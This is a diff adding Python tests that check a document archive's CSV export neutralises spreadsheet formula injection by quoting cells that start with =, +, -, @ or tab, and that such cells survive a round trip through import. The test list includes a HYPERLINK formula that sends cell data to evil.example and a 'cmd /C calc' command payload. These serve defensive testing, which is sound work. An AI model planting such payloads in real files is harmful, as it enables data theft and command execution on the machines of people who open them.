@@ -160,3 +160,48 @@ def test_the_documented_examples_import(tmp_path, language):
     assert Document.objects.get(pk=21).texts.get().body == (
         "<p>First paragraph.</p>\n<p>Second paragraph.</p>"
     )
+
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?"&A1,"Click")', "@SUM(A1:A9)", "-2+3+cmd' /C calc'!A0",
+    "+1+1", "-2+3", "\t=1+1", "'=already quoted", "''@twice",
+]
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_start_with_a_quote(tmp_path):
+    for formula in FORMULAS:
+        make_document(title=f"x{formula}"[1:], summary=formula, classification=formula[:200])
+
+    rows = list(csv.DictReader(io.StringIO(export())))
+
+    for row in rows:
+        for name in ("title", "summary", "classification"):
+            assert row[name][:1] not in ("=", "+", "-", "@", "\t", "\r"), row[name]
+    assert sorted(row["summary"] for row in rows) == sorted(
+        "'" + formula for formula in FORMULAS
+    )
+
+
+def test_a_protected_cell_round_trips_through_import(tmp_path):
+    # The import strips surrounding whitespace from every cell, so "\t=1+1" is left out.
+    formulas = [formula for formula in FORMULAS if formula == formula.strip()]
+    documents = [make_document(title=f"Cable {n}", summary=formula, people=[make_person(formula)])
+                 for n, formula in enumerate(formulas)]
+    exported = export()
+    path = tmp_path / "docs.csv"
+    path.write_text(exported, encoding="utf-8", newline="")
+
+    assert run_import(path) == f"0 created, 0 updated, {len(formulas)} unchanged"
+    for document, formula in zip(documents, formulas, strict=True):
+        document.refresh_from_db()
+        assert document.summary == formula
+        assert [p.name for p in document.people.all()] == [formula]
+    assert export() == exported
+
+
+def test_a_plain_leading_quote_is_kept(tmp_path):
+    make_document(title="'Tis the season", summary="'quoted'")
+
+    row = next(csv.DictReader(io.StringIO(export())))
+
+    assert (row["title"], row["summary"]) == ("'Tis the season", "'quoted'")
